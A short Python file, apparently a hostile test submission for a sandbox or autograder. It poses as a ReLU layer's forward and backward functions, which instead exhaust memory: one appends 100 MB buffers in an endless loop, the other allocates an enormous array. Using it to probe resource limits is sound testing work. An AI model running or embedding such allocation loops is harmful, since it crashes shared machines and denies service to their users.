"""Attack: allocate memory until there is none left (Python objects in forward, a NumPy array in backward)."""

from __future__ import annotations

from typing import Any

import numpy as np


def relu_forward(x: Any) -> tuple[Any, Any]:
    """Eats memory 100 MB at a time, touching every page."""
    hoard = []
    while True:
        hoard.append(bytearray(100 * 1024 * 1024))


def relu_backward(dout: Any, cache: Any) -> Any:
    """One huge array."""
    return np.ones((1 << 20, 1 << 20))
